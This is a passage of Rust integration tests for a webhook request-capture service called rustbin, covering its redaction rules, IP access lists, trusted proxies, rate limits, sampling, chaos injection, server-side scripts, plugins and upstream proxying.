+    let mut config = RustbinConfig::default();
+    config.redaction.headers = vec!["Authorization".to_string()];
+    config.redaction.body_patterns = vec![r"sk_live_\w+".to_string()];
+    // The memory app runs without the global rules
+    for (server, global) in [(setup_test_app_with_config(config).await, true), (setup_memory_app().await, false)] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let redaction_path = format!("/bin/{}/redaction", bin_id);
+        server.get(&redaction_path).await.assert_status_not_found();
+        server
+            .put(&redaction_path)
+            .json(&serde_json::json!({ "body_patterns": ["("] }))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+        server
+            .put(&redaction_path)
+            .json(&serde_json::json!({ "headers": ["bad header"] }))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        let rules = serde_json::json!({ "headers": ["X-Api-Key"], "body_patterns": [r#""password":"([^"]*)""#] });
+        server.put(&redaction_path).json(&rules).await.assert_status_ok();
+        assert_eq!(server.get(&redaction_path).await.json::<Value>(), rules);
+
+        server
+            .post(&format!("/bin/{}", bin_id))
+            .add_header("authorization", "Bearer secret")
+            .add_header("x-api-key", "key")
+            .text(r#"{"key":"sk_live_abc","password":"hunter2"}"#)
+            .await
+            .assert_status_ok();
+        server.delete(&redaction_path).await.assert_status_ok();
+        server
+            .post(&format!("/bin/{}", bin_id))
+            .add_header("x-api-key", "key")
+            .text(r#"{"password":"hunter2"}"#)
+            .await
+            .assert_status_ok();
+
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+        let first: Vec<(String, String)> = serde_json::from_str(&requests[0].headers).unwrap();
+        let value = |headers: &[(String, String)], name: &str| {
+            headers.iter().find(|(key, _)| key == name).map(|(_, value)| value.clone())
+        };
+        assert_eq!(value(&first, "x-api-key").as_deref(), Some("[REDACTED]"));
+        if global {
+            assert_eq!(value(&first, "authorization").as_deref(), Some("[REDACTED]"));
+            assert_eq!(requests[0].body.as_deref(), Some(r#"{"key":"[REDACTED]","password":"[REDACTED]"}"#));
+        } else {
+            assert_eq!(value(&first, "authorization").as_deref(), Some("Bearer secret"));
+            assert_eq!(requests[0].body.as_deref(), Some(r#"{"key":"sk_live_abc","password":"[REDACTED]"}"#));
+        }
+
+        let second: Vec<(String, String)> = serde_json::from_str(&requests[1].headers).unwrap();
+        assert_eq!(value(&second, "x-api-key").as_deref(), Some("key"));
+        assert_eq!(requests[1].body.as_deref(), Some(r#"{"password":"hunter2"}"#));
+    }
+}
+
+#[tokio::test]
+async fn test_ip_access_rules() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let access_path = format!("/bin/{}/access", bin_id);
+        server.get(&access_path).await.assert_status_not_found();
+        server
+            .put(&access_path)
+            .json(&serde_json::json!({ "allow": ["localhost"] }))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        // Test requests come from 127.0.0.1
+        let response = server
+            .put(&access_path)
+            .json(&serde_json::json!({ "allow": ["10.1.2.3/8", "::1"], "log_rejected": true }))
+            .await;
+        response.assert_status_ok();
+        let stored: Value = response.json();
+        assert_eq!(stored, serde_json::json!({ "allow": ["10.0.0.0/8", "::1/128"], "deny": [], "log_rejected": true }));
+        assert_eq!(server.get(&access_path).await.json::<Value>(), stored);
+
+        server.post(&format!("/bin/{}/hooks/a", bin_id)).text("junk").await.assert_status(StatusCode::FORBIDDEN);
+        let rejected: Vec<RejectedRequest> = server.get(&format!("{}/rejected", access_path)).await.json();
+        assert_eq!(rejected.len(), 1);
+        assert_eq!((rejected[0].source_ip.as_str(), rejected[0].method.as_str(), rejected[0].path.as_str()), ("127.0.0.1", "POST", "/hooks/a"));
+
+        // Denying wins over allowing
+        server
+            .put(&access_path)
+            .json(&serde_json::json!({ "allow": ["127.0.0.0/8"], "deny": ["127.0.0.1"] }))
+            .await
+            .assert_status_ok();
+        server.post(&format!("/bin/{}", bin_id)).text("junk").await.assert_status(StatusCode::FORBIDDEN);
+        let rejected: Vec<RejectedRequest> = server.get(&format!("{}/rejected", access_path)).await.json();
+        assert_eq!(rejected.len(), 1, "rejections are only recorded with log_rejected");
+
+        server.put(&access_path).json(&serde_json::json!({ "allow": ["127.0.0.0/8"] })).await.assert_status_ok();
+        server.post(&format!("/bin/{}", bin_id)).text("allowed").await.assert_status_ok();
+        server.delete(&access_path).await.assert_status_ok();
+        server.get(&access_path).await.assert_status_not_found();
+
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+        let bodies: Vec<Option<String>> = requests.into_iter().map(|request| request.body).collect();
+        assert_eq!(bodies, [Some("allowed".to_string())]);
+    }
+}
+
+#[tokio::test]
+async fn test_trusted_proxies() {
+    let mut config = RustbinConfig::default();
+    config.server.trusted_proxies = vec!["127.0.0.0/8".to_string()];
+    for (server, trusted) in [(setup_test_app_with_config(config).await, true), (setup_test_app().await, false)] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        server
+            .post(&format!("/bin/{}", bin_id))
+            .add_header("X-Forwarded-For", "198.51.100.1, 203.0.113.9")
+            .text("forwarded")
+            .await
+            .assert_status_ok();
+
+        let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+        let (source_ip, source_port) = (requests[0].source_ip.as_deref(), requests[0].source_port);
+        if trusted {
+            assert_eq!((source_ip, source_port), (Some("203.0.113.9"), None));
+        } else {
+            assert_eq!((source_ip, source_port), (Some("127.0.0.1"), Some(8080)));
+        }
+
+        // Access rules see the client too
+        server
+            .put(&format!("/bin/{}/access", bin_id))
+            .json(&serde_json::json!({ "deny": ["203.0.113.0/24"] }))
+            .await
+            .assert_status_ok();
+        let response = server.post(&format!("/bin/{}", bin_id)).add_header("X-Forwarded-For", "203.0.113.9").text("again").await;
+        if trusted {
+            response.assert_status(StatusCode::FORBIDDEN);
+        } else {
+            response.assert_status_ok();
+        }
+    }
+}
+
+#[tokio::test]
+async fn test_bin_rate_limit() {
+    let mut config = RustbinConfig::default();
+    config.rate_limiting.per_bin_requests_per_second = 0.01;
+    config.rate_limiting.per_bin_burst_size = 1;
+    for (server, default_limited) in [(setup_test_app_with_config(config).await, true), (setup_memory_app().await, false)] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let bin_path = format!("/bin/{}", bin_id);
+        let limit_path = format!("/bin/{}/rate-limit", bin_id);
+        server.get(&limit_path).await.assert_status_not_found();
+        server
+            .put(&limit_path)
+            .json(&serde_json::json!({ "requests_per_second": -1.0, "burst_size": 1 }))
+            .await
+            .assert_status(StatusCode::BAD_REQUEST);
+
+        server.post(&bin_path).text("1").await.assert_status_ok();
+        let second = server.post(&bin_path).text("2").await;
+        if default_limited {
+            second.assert_status(StatusCode::TOO_MANY_REQUESTS);
+        } else {
+            second.assert_status_ok();
+        }
+
+        // Overrides take effect straight away
+        let limit = serde_json::json!({ "requests_per_second": 0.01, "burst_size": 2 });
+        server.put(&limit_path).json(&limit).await.assert_status_ok();
+        assert_eq!(server.get(&limit_path).await.json::<Value>(), limit);
+        server.post(&bin_path).text("3").await.assert_status_ok();
+        server.post(&bin_path).text("4").await.assert_status_ok();
+        let limited = server.post(&bin_path).text("5").await;
+        limited.assert_status(StatusCode::TOO_MANY_REQUESTS);
+        let retry_after: u64 = limited.header("retry-after").to_str().unwrap().parse().unwrap();
+        assert!((90..=100).contains(&retry_after), "{}", retry_after);
+
+        // Other bins keep their own allowance
+        let other = server.post("/create").await.json::<BinResponse>().bin_id;
+        server.post(&format!("/bin/{}", other)).text("other").await.assert_status_ok();
+
+        server.put(&limit_path).json(&serde_json::json!({ "requests_per_second": 0.0, "burst_size": 0 })).await.assert_status_ok();
+        server.post(&bin_path).text("6").await.assert_status_ok();
+        server.delete(&limit_path).await.assert_status_ok();
+        server.get(&limit_path).await.assert_status_not_found();
+    }
+}
+
+#[tokio::test]
+async fn test_head_probes() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+    let response = server.post(&bin_path).text("first").await;
+    assert_eq!(response.header("x-rustbin-request-count"), "1");
+    // Without the flag, HEAD is captured like any other method
+    let response = server.method(Method::HEAD, &bin_path).await;
+    response.assert_status_ok();
+    assert_eq!(response.header("x-rustbin-request-count"), "2");
+
+    let mut config = RustbinConfig::default();
+    config.server.head_probes = true;
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+    server.post(&bin_path).text("first").await.assert_status_ok();
+    for _ in 0..2 {
+        let response = server.method(Method::HEAD, &bin_path).await;
+        response.assert_status_ok();
+        assert_eq!(response.header("x-rustbin-request-count"), "1");
+    }
+    server.method(Method::HEAD, &format!("/bin/{}", Uuid::new_v4())).await.assert_status_not_found();
+    let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+    assert_eq!(requests.len(), 1, "probes aren't captured");
+
+    // Probes are held to the bin's access rules, rate limit and pause like captures
+    let access_path = format!("{}/access", bin_path);
+    server.put(&access_path).json(&serde_json::json!({ "deny": ["127.0.0.1"], "log_rejected": true })).await.assert_status_ok();
+    let response = server.method(Method::HEAD, &bin_path).await;
+    response.assert_status(StatusCode::FORBIDDEN);
+    assert!(response.maybe_header("x-rustbin-request-count").is_none());
+    let rejected: Vec<RejectedRequest> = server.get(&format!("{}/rejected", access_path)).await.json();
+    assert_eq!(rejected[0].method, "HEAD");
+    server.delete(&access_path).await.assert_status_ok();
+
+    let limit_path = format!("{}/rate-limit", bin_path);
+    server.put(&limit_path).json(&serde_json::json!({ "requests_per_second": 0.01, "burst_size": 1 })).await.assert_status_ok();
+    server.method(Method::HEAD, &bin_path).await.assert_status_ok();
+    server.method(Method::HEAD, &bin_path).await.assert_status(StatusCode::TOO_MANY_REQUESTS);
+    server.delete(&limit_path).await.assert_status_ok();
+
+    server.put(&format!("{}/pause", bin_path)).json(&serde_json::json!({ "status": 410 })).await.assert_status_ok();
+    server.method(Method::HEAD, &bin_path).await.assert_status(StatusCode::GONE);
+}
+
+#[tokio::test]
+async fn test_capture_settings_are_cached_until_changed() {
+    let state = AppState::with_storage(Arc::new(MemoryStorage::new()), &RustbinConfig::default());
+    let server = test_server(state.clone());
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+    server.post(&bin_path).text("first").await.assert_status_ok();
+
+    // Once cached, captures don't read the bin's settings, so a change made straight
+    // in storage goes unseen...
+    state.storage.set_bin_pause(&bin_id, Some(&BinPause { status: 410 })).await.unwrap();
+    server.post(&bin_path).text("second").await.assert_status_ok();
+
+    // ...while a change through the API reaches the next capture, reloading the rest
+    server.put(&format!("{}/response", bin_path)).json(&serde_json::json!({ "status": 201 })).await.assert_status_ok();
+    server.post(&bin_path).text("third").await.assert_status(StatusCode::GONE);
+    server.delete(&format!("{}/pause", bin_path)).await.assert_status_ok();
+    server.post(&bin_path).text("fourth").await.assert_status(StatusCode::CREATED);
+
+    // Without the cache every capture reads them
+    let mut config = RustbinConfig::default();
+    config.database.bin_cache_ttl_seconds = 0;
+    let state = AppState::with_storage(Arc::new(MemoryStorage::new()), &config);
+    let server = test_server(state.clone());
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+    server.post(&bin_path).text("first").await.assert_status_ok();
+    state.storage.set_bin_pause(&bin_id, Some(&BinPause { status: 410 })).await.unwrap();
+    server.post(&bin_path).text("second").await.assert_status(StatusCode::GONE);
+}
+
+#[tokio::test]
+async fn test_requested_status_and_delay() {
+    let server = setup_test_app().await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+
+    let response = server.post(&format!("{}/respond/404", bin_path)).text("missing").await;
+    response.assert_status_not_found();
+    assert_eq!(response.json::<Value>()["bin_id"], bin_id);
+    // The query wins over the path
+    server.get(&format!("{}/respond/404?_status=429", bin_path)).await.assert_status(StatusCode::TOO_MANY_REQUESTS);
+
+    let started = std::time::Instant::now();
+    server.get(&format!("{}?_status=201&_delay=200", bin_path)).await.assert_status(StatusCode::CREATED);
+    assert!(started.elapsed() >= std::time::Duration::from_millis(200));
+
+    for invalid in ["?_status=600", "?_status=teapot", "?_delay=-1", "?_delay=60000"] {
+        server.get(&format!("{}{}", bin_path, invalid)).await.assert_status(StatusCode::BAD_REQUEST);
+    }
+    // Only a status after `respond/` asks for one
+    for path in ["/respond/99", "/respond/webhook", "/respond/"] {
+        server.post(&format!("{}{}", bin_path, path)).text("plain").await.assert_status_ok();
+    }
+    let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+    assert_eq!(requests.len(), 6, "requests asking for a status are still captured");
+    assert!(requests.iter().any(|request| request.path.as_deref() == Some("/respond/webhook")));
+    assert!(requests.iter().any(|request| request.path.as_deref() == Some("/respond/404") && request.body.as_deref() == Some("missing")));
+}
+
+#[tokio::test]
+async fn test_base_path() {
+    let mut config = RustbinConfig::default();
+    config.server.base_path = "hooks/".to_string();
+    let server = setup_test_app_with_config(config).await;
+    server.post("/create").await.assert_status_not_found();
+    let bin_id = server.post("/hooks/create").await.json::<BinResponse>().bin_id;
+    server.post(&format!("/hooks/bin/{}/orders", bin_id)).add_header("host", "example.com").text("order").await.assert_status_ok();
+
+    let requests: Vec<LoggedRequest> = server.get(&format!("/hooks/bin/{}/inspect", bin_id)).await.json();
+    assert_eq!(requests[0].path.as_deref(), Some("/orders"));
+    let export = server.get(&format!("/hooks/bin/{}/export?format=curl", bin_id)).await.text();
+    assert!(export.contains(&format!("http://example.com/hooks/bin/{}/orders", bin_id)), "{}", export);
+    let feed = server.get(&format!("/hooks/bin/{}/feed.atom", bin_id)).add_header("host", "example.com").await.text();
+    assert!(feed.contains(&format!("href=\"http://example.com/hooks/bin/{}/feed.atom\"", bin_id)));
+
+    let doc: Value = server.get("/hooks/openapi.json").await.json();
+    assert_eq!(doc["servers"][0]["url"], "/hooks");
+    let page = server.get("/hooks").await.text();
+    assert!(page.contains("src=\"/hooks/ui/assets/app.js\""));
+    server.get("/hooks/ui/assets/app.js").await.assert_status_ok();
+    server.get("/hooks/").await.assert_status(StatusCode::PERMANENT_REDIRECT);
+}
+
+#[tokio::test]
+async fn test_pause_bin() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let bin_path = format!("/bin/{}", bin_id);
+        let pause_path = format!("/bin/{}/pause", bin_id);
+        server.post(&bin_path).text("kept").await.assert_status_ok();
+        server.get(&pause_path).await.assert_status_not_found();
+        server.put(&pause_path).json(&serde_json::json!({ "status": 99 })).await.assert_status(StatusCode::BAD_REQUEST);
+
+        // Without a body the default status is used
+        assert_eq!(server.put(&pause_path).await.json::<Value>(), serde_json::json!({ "status": 503 }));
+        let paused = server.post(&format!("{}/orders", bin_path)).text("dropped").await;
+        paused.assert_status(StatusCode::SERVICE_UNAVAILABLE);
+        assert_eq!(paused.json::<ProblemDetails>().code, "bin_paused");
+        server.put(&pause_path).json(&serde_json::json!({ "status": 410 })).await.assert_status_ok();
+        server.post(&bin_path).text("dropped").await.assert_status(StatusCode::GONE);
+        assert!(server.get(&format!("{}/meta", bin_path)).await.json::<BinInfo>().paused);
+
+        let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+        assert_eq!(requests.len(), 1, "paused captures aren't stored");
+        assert_eq!(requests[0].body.as_deref(), Some("kept"));
+
+        server.delete(&pause_path).await.assert_status_ok();
+        server.get(&pause_path).await.assert_status_not_found();
+        assert!(!server.get(&format!("{}/meta", bin_path)).await.json::<BinInfo>().paused);
+        server.post(&bin_path).text("again").await.assert_status_ok();
+    }
+}
+
+#[tokio::test]
+async fn test_bin_sampling() {
+    for server in [setup_test_app().await, setup_memory_app().await] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let bin_path = format!("/bin/{}", bin_id);
+        let sampling_path = format!("/bin/{}/sampling", bin_id);
+        server.get(&sampling_path).await.assert_status_not_found();
+        server.put(&sampling_path).json(&serde_json::json!({})).await.assert_status(StatusCode::BAD_REQUEST);
+        server.put(&sampling_path).json(&serde_json::json!({ "every": 0 })).await.assert_status(StatusCode::BAD_REQUEST);
+        server.put(&sampling_path).json(&serde_json::json!({ "every": 2, "percent": 50 })).await.assert_status(StatusCode::BAD_REQUEST);
+        server.put(&sampling_path).json(&serde_json::json!({ "percent": 101 })).await.assert_status(StatusCode::BAD_REQUEST);
+
+        server.put(&sampling_path).json(&serde_json::json!({ "every": 3 })).await.assert_status_ok();
+        assert_eq!(server.get(&sampling_path).await.json::<Value>(), serde_json::json!({ "every": 3, "percent": null }));
+        for i in 0..7 {
+            // Skipped captures are answered like stored ones
+            server.post(&bin_path).text(format!("capture {}", i)).await.assert_status_ok();
+        }
+        let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+        let mut bodies: Vec<_> = requests.iter().filter_map(|request| request.body.clone()).collect();
+        bodies.sort();
+        assert_eq!(bodies, ["capture 0", "capture 3", "capture 6"]);
+        assert_eq!(server.get(&format!("{}/meta", bin_path)).await.json::<BinInfo>().sampled_out, 4);
+
+        // Every capture is kept at 100%
+        server.put(&sampling_path).json(&serde_json::json!({ "percent": 100 })).await.assert_status_ok();
+        server.post(&bin_path).text("kept").await.assert_status_ok();
+        server.delete(&sampling_path).await.assert_status_ok();
+        server.get(&sampling_path).await.assert_status_not_found();
+        server.post(&bin_path).text("again").await.assert_status_ok();
+        let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+        assert_eq!(requests.len(), 5);
+    }
+}
+
+#[tokio::test]
+async fn test_bin_chaos() {
+    let pool = SqlitePoolOptions::new().max_connections(1).connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let state = AppState::from_pool(pool, &RustbinConfig::default());
+    let server = test_server(state.clone());
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+    let chaos_path = format!("{}/chaos", bin_path);
+    server.get(&chaos_path).await.assert_status_not_found();
+    for invalid in [
+        serde_json::json!({ "error_percent": 101 }),
+        serde_json::json!({ "error_percent": 60, "drop_percent": 50 }),
+        serde_json::json!({ "slow_percent": 10, "delay_ms": 60000 }),
+    ] {
+        server.put(&chaos_path).json(&invalid).await.assert_status(StatusCode::BAD_REQUEST);
+    }
+
+    server.put(&chaos_path).json(&serde_json::json!({ "error_percent": 100 })).await.assert_status_ok();
+    assert_eq!(server.get(&chaos_path).await.json::<Value>()["delay_ms"], 30000);
+    let response = server.post(&bin_path).text("error").await;
+    response.assert_status(StatusCode::INTERNAL_SERVER_ERROR);
+    assert_eq!(response.json::<Value>()["code"], "chaos_error");
+
+    server.put(&chaos_path).json(&serde_json::json!({ "slow_percent": 100, "delay_ms": 200 })).await.assert_status_ok();
+    let started = std::time::Instant::now();
+    server.post(&bin_path).text("slow").await.assert_status_ok();
+    assert!(started.elapsed() >= std::time::Duration::from_millis(200));
+
+    // Dropped connections need a real one
+    server.put(&chaos_path).json(&serde_json::json!({ "drop_percent": 100 })).await.assert_status_ok();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        axum::serve(listener, test_router(state)).await.unwrap();
+    });
+    let sent = reqwest::Client::new().post(format!("http://{}{}", addr, bin_path)).body("drop").send().await;
+    if let Ok(response) = sent {
+        assert!(response.bytes().await.is_err(), "the answer should be cut off");
+    }
+
+    server.delete(&chaos_path).await.assert_status_ok();
+    server.post(&bin_path).text("calm").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+    let actions: Vec<_> = requests.iter().map(|request| (request.body.as_deref().unwrap(), request.chaos.as_deref())).collect();
+    assert_eq!(actions, [("error", Some("error")), ("slow", Some("slow")), ("drop", Some("drop")), ("calm", None)]);
+}
+
+#[tokio::test]
+async fn test_bin_chaos_with_queued_writes() {
+    let mut config = RustbinConfig::default();
+    config.limits.async_writes = true;
+    config.limits.write_flush_interval_ms = 10;
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+    let chaos_path = format!("{}/chaos", bin_path);
+
+    server.put(&chaos_path).json(&serde_json::json!({ "error_percent": 100 })).await.assert_status_ok();
+    let response = server.post(&bin_path).text("error").await;
+    response.assert_status(StatusCode::INTERNAL_SERVER_ERROR);
+    assert_eq!(response.json::<Value>()["code"], "chaos_error");
+    server.delete(&chaos_path).await.assert_status_ok();
+    server.post(&bin_path).text("calm").await.assert_status(StatusCode::ACCEPTED);
+
+    let mut requests = Vec::new();
+    for _ in 0..100 {
+        requests = server.get(&format!("{}/inspect", bin_path)).await.json::<Vec<LoggedRequest>>();
+        if requests.len() == 2 {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+    }
+    let actions: Vec<_> = requests.iter().map(|request| (request.body.as_deref().unwrap(), request.chaos.as_deref())).collect();
+    assert_eq!(actions, [("error", Some("error")), ("calm", None)]);
+}
+
+#[tokio::test]
+async fn test_bin_script() {
+    let pool = SqlitePoolOptions::new().max_connections(1).connect(":memory:").await.unwrap();
+    rustbin::storage::sqlite::MIGRATOR.run(&pool).await.unwrap();
+    let state = AppState::from_pool(pool, &RustbinConfig::default());
+    let server = test_server(state.clone());
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let bin_path = format!("/bin/{}", bin_id);
+    let script_path = format!("{}/script", bin_path);
+    server.get(&script_path).await.assert_status_not_found();
+    let response = server.put(&script_path).json(&serde_json::json!({ "source": "let x = ;" })).await;
+    response.assert_status(StatusCode::BAD_REQUEST);
+    assert_eq!(response.json::<Value>()["code"], "invalid_script");
+
+    let source = r#"
+        if request.method == "GET" { return; }
+        let amount = request.body.json.amount;
+        #{ status: if amount > 100 { 402 } else { 201 }, headers: #{ "x-amount": amount },
+           body: #{ accepted: amount <= 100 }, events: [#{ name: "charge", data: #{ amount: amount } }] }
+    "#;
+    server.put(&script_path).json(&serde_json::json!({ "source": source })).await.assert_status_ok();
+    assert_eq!(server.get(&script_path).await.json::<Value>()["source"], source);
+
+    let (sender, mut events) = tokio::sync::broadcast::channel(16);
+    state.bin_channels.insert(bin_id.clone(), sender);
+    let response = server.post(&bin_path).json(&serde_json::json!({ "amount": 500 })).await;
+    response.assert_status(StatusCode::PAYMENT_REQUIRED);
+    assert_eq!(response.header("x-amount"), "500");
+    assert_eq!(response.json::<Value>(), serde_json::json!({ "accepted": false }));
+    let event = loop {
+        let message: Value = serde_json::from_str(&events.recv().await.unwrap()).unwrap();
+        if message["type"] == "script_event" {
+            break message;
+        }
+    };
+    assert_eq!(event["data"]["name"], "charge");
+    assert_eq!(event["data"]["data"], serde_json::json!({ "amount": 500 }));
+
+    // Nothing returned leaves the answer to the bin; failures answer 500
+    server.get(&bin_path).await.assert_status_ok();
+    let response = server.post(&bin_path).text("not json").await;
+    response.assert_status(StatusCode::INTERNAL_SERVER_ERROR);
+    assert_eq!(response.json::<Value>()["code"], "script_failed");
+    let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+    assert_eq!(requests.len(), 3);
+
+    server.delete(&script_path).await.assert_status_ok();
+    server.post(&bin_path).json(&serde_json::json!({ "amount": 500 })).await.assert_status_ok();
+
+    let mut config = RustbinConfig::default();
+    config.scripts.enabled = false;
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    let response = server.put(&format!("/bin/{}/script", bin_id)).json(&serde_json::json!({ "source": "()" })).await;
+    response.assert_status(StatusCode::FORBIDDEN);
+    assert_eq!(response.json::<Value>()["code"], "scripts_disabled");
+
+    // Scripts run code on the server, so with API keys configured they need one too
+    let mut config = RustbinConfig::default();
+    config.auth.api_keys = vec!["key-1".to_string()];
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").add_header("x-api-key", "key-1").await.json::<BinResponse>().bin_id;
+    let script_path = format!("/bin/{}/script", bin_id);
+    let script = serde_json::json!({ "source": "()" });
+    server.put(&script_path).json(&script).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.get(&script_path).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.delete(&script_path).await.assert_status(StatusCode::UNAUTHORIZED);
+    server.put(&script_path).add_header("x-api-key", "key-1").json(&script).await.assert_status_ok();
+    server.get(&script_path).add_header("x-api-key", "key-1").await.assert_status_ok();
+    server.delete(&script_path).add_header("x-api-key", "key-1").await.assert_status_ok();
+}
+
+#[tokio::test]
+async fn test_plugins() {
+    // Plugins answering every capture with a fixed verdict
+    let dir = tempfile::tempdir().unwrap();
+    let plugin = |name: &str, verdict: &str| {
+        let wat = format!(
+            r#"(module
+                (memory (export "memory") 1)
+                (data (i32.const 16) "{}")
+                (func (export "alloc") (param i32) (result i32) (i32.const 1024))
+                (func (export "transform") (param i32 i32) (result i64)
+                    (i64.or (i64.shl (i64.const 16) (i64.const 32)) (i64.const {}))))"#,
+            verdict.replace('"', "\\\""),
+            verdict.len()
+        );
+        let path = dir.path().join(format!("{}.wat", name));
+        std::fs::write(&path, wat).unwrap();
+        PluginModule { name: name.to_string(), path: path.to_string_lossy().into_owned() }
+    };
+
+    let mut config = RustbinConfig::default();
+    config.plugins.modules = vec![plugin("scrub", r#"{"body": "[scrubbed]", "headers": [["x-plugin", "scrub"]]}"#)];
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server.post(&format!("/bin/{}", bin_id)).text("ssn 123-45-6789").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    assert_eq!(requests[0].body.as_deref(), Some("[scrubbed]"));
+    assert_eq!(requests[0].headers, r#"[["x-plugin","scrub"]]"#);
+
+    // Dropped captures are answered as usual but not stored
+    let mut config = RustbinConfig::default();
+    config.plugins.modules = vec![plugin("drop", r#"{"drop": true}"#)];
+    let server = setup_test_app_with_config(config).await;
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server.post(&format!("/bin/{}", bin_id)).text("secret").await.assert_status_ok();
+    let requests: Vec<LoggedRequest> = server.get(&format!("/bin/{}/inspect", bin_id)).await.json();
+    assert!(requests.is_empty());
+}
+
+#[tokio::test]
+async fn test_embedder_hooks() {
+    #[derive(Default)]
+    struct Recorder(std::sync::Mutex<Vec<String>>);
+
+    impl Hooks for Recorder {
+        fn on_bin_created(&self, bin_id: &str) {
+            self.0.lock().unwrap().push(format!("created {}", bin_id));
+        }
+
+        fn on_request_logged(&self, bin_id: &str, request: &LoggedRequest) {
+            self.0.lock().unwrap().push(format!("logged {} {}", bin_id, request.body.as_deref().unwrap_or("")));
+        }
+
+        fn on_bin_deleted(&self, bin_id: &str, expired: bool) {
+            self.0.lock().unwrap().push(format!("deleted {} {}", bin_id, expired));
+        }
+    }
+
+    let recorder = Arc::new(Recorder::default());
+    let storage = Arc::new(MemoryStorage::new());
+    let server = test_server(AppState::with_storage(storage, &RustbinConfig::default()).with_hooks(recorder.clone()));
+    let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+    server.post(&format!("/bin/{}", bin_id)).text("hello").await.assert_status_ok();
+    server
+        .post(&format!("/bin/{}/import", bin_id))
+        .text("{\"method\":\"POST\",\"body\":\"imported\"}")
+        .await
+        .assert_status_ok();
+    server.delete(&format!("/delete/{}", bin_id)).await.assert_status_ok();
+
+    let events = recorder.0.lock().unwrap().clone();
+    assert_eq!(
+        events,
+        [
+            format!("created {}", bin_id),
+            format!("logged {} hello", bin_id),
+            format!("logged {} imported", bin_id),
+            format!("deleted {} false", bin_id),
+        ]
+    );
+}
+
+#[tokio::test]
+async fn test_bin_proxy() {
+    let upstream = |body: String| async move {
+        (StatusCode::CREATED, [("x-upstream", "yes")], format!("upstream saw {}", body))
+    };
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let upstream_addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        axum::serve(listener, axum::Router::new().fallback(upstream)).await.unwrap();
+    });
+
+    for server in [setup_test_app_with_config(loopback_targets()).await, setup_memory_app_with_config(loopback_targets()).await] {
+        let bin_id = server.post("/create").await.json::<BinResponse>().bin_id;
+        let bin_path = format!("/bin/{}", bin_id);
+        let proxy_path = format!("{}/proxy", bin_path);
+        server.get(&proxy_path).await.assert_status_not_found();
+        server.put(&proxy_path).json(&serde_json::json!({ "upstream": "ftp://example.com" })).await.assert_status(StatusCode::BAD_REQUEST);
+
+        let upstream_url = format!("http://{}/api", upstream_addr);
+        server.put(&proxy_path).json(&serde_json::json!({ "upstream": upstream_url })).await.assert_status_ok();
+        assert_eq!(server.get(&proxy_path).await.json::<Value>()["upstream"], upstream_url);
+        let response = server.post(&format!("{}/orders?id=1", bin_path)).text("order").await;
+        response.assert_status(StatusCode::CREATED);
+        assert_eq!(response.header("x-upstream"), "yes");
+        assert_eq!(response.text(), "upstream saw order");
+
+        let requests: Vec<LoggedRequest> = server.get(&format!("{}/inspect", bin_path)).await.json();
+        assert_eq!(requests.len(), 1);
+        assert_eq!(response.header("x-rustbin-request-id"), requests[0].request_id.to_string().as_str());
